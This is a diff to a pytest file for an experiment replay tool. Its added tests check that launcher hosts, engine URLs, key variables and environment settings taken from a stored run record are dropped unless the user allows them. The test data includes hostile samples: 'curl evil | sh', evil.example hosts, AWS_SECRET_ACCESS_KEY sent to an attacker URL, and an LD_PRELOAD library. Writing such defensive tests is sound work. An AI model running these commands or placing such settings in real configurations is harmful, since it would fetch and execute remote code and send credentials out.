@@ -78,8 +78,8 @@ def test_only_names_cells_by_hash_or_run(record: Callable[..., RunRecord], golde
     assert "--only" in str(caught.value)
 
 
-# Of the choices of a spec, those that name no module.
-BY_NAME = {"model"}
+# Of the choices of a spec, those that name no module. A launcher is not taken from a capsule at all.
+BY_NAME = {"model", "launcher"}
 
 
 @pytest.mark.parametrize(
@@ -96,13 +96,62 @@ def test_code_of_a_strangers_module_is_not_run_unasked(
     assert "antigravity.fly" in str(caught.value)
     assert "--allow-modules" in str(caught.value)
     if field != "workload":  # It is asked what followed from it.
-        assert replay.request([foreign], foreign=True).specs == (foreign.spec,)
+        assert replay.request([foreign], allowed=["antigravity"]).specs == (foreign.spec,)
 
 
 def test_a_served_run_is_replayed_under_other_circumstances() -> None:
     stored = served_records.record([served_records.request()])
-    (spec,) = replay.request([stored], ["timeout_s=50.0"]).specs
+    (spec,) = replay.request([stored], ["timeout_s=50.0"], allowed=["engine"]).specs
     assert (spec.serving, spec.engine, spec.timeout_s) == (stored.spec.serving, stored.spec.engine, 50.0)
+
+
+STRANGE = [
+    ("kubernetes:namespace=mine,image=evil/image:1,pod_patch={}", None),
+    ('slurm:setup=["curl evil | sh"],partition=gpu', None),
+    ('ssh:hosts=["evil.example"]', None),
+    ("ray:address=evil.example:6379", None),
+    ("antigravity.fly", None),
+    ("local", "openai:url=http://evil.example,key_env=AWS_SECRET_ACCESS_KEY"),
+    ("local", 'openai:urls=["http://evil.example"]'),
+    ("local", "openai:certificates=/tmp/evil.pem"),
+    ("local", 'vllm:executable=/tmp/evil,arguments=["--trust-remote-code"]'),
+]
+
+
+@pytest.mark.parametrize(("launcher", "engine"), STRANGE)
+def test_programs_hosts_and_key_variables_come_from_the_user(launcher: str, engine: str | None) -> None:
+    """A capsule with key_env=AWS_SECRET_ACCESS_KEY used to send that secret to its url."""
+    stored = served_records.record([served_records.request()])
+    spec = dataclasses.replace(
+        stored.spec,
+        launcher=Choice.parse(launcher),
+        engine=Choice.parse(engine) if engine else Choice("openai"),
+        env={"LD_PRELOAD": "/tmp/evil.so", "NCCL_ALGO": "Ring", "NCCL_NET_PLUGIN": "evil", "NCCL_PROTO": "../evil"},
+    )
+    found = replay.request([dataclasses.replace(stored, spec=spec)])
+    (ours,) = found.specs
+    assert ours.launcher == Choice("local")
+    assert ours.engine is not None
+    assert ours.engine.options == {}
+    assert dict(ours.env) == {"NCCL_ALGO": "Ring"}
+    assert found.origins == {ours.cell: spec.cell}
+    words = [word for word in (launcher, *(engine or "").partition(":")[2].split(",")) if word not in ("local", "")]
+    for text in words:
+        assert any(text.split("=")[-1].strip('[]"') in dropped for dropped in found.dropped), (text, found.dropped)
+    # What the user says instead is used, and nothing of it is reported as dropped.
+    given = replay.request(
+        [dataclasses.replace(stored, spec=spec)], ["engine.key_env=MINE"] if "key_env" in str(engine) else [], "local"
+    )
+    assert not any(text.startswith(("launcher", "engine.key_env")) for text in given.dropped)
+    # Whoever trusts the capsule gets what it says.
+    assert replay.request([dataclasses.replace(stored, spec=spec)], allowed=["all"]).specs == (spec,)
+
+
+def test_stored_runs_that_differ_only_in_what_is_dropped_are_replayed_once(record: Callable[..., RunRecord]) -> None:
+    stored = [record("ddp", launcher=name) for name in ("slurm", "ray")]
+    found = replay.request(stored)
+    assert len(found.specs) == 1
+    assert set(found.origins.values()) <= {one.spec.cell for one in stored}
 
 
 def test_probes_that_a_search_asked_for_are_left_to_the_search(
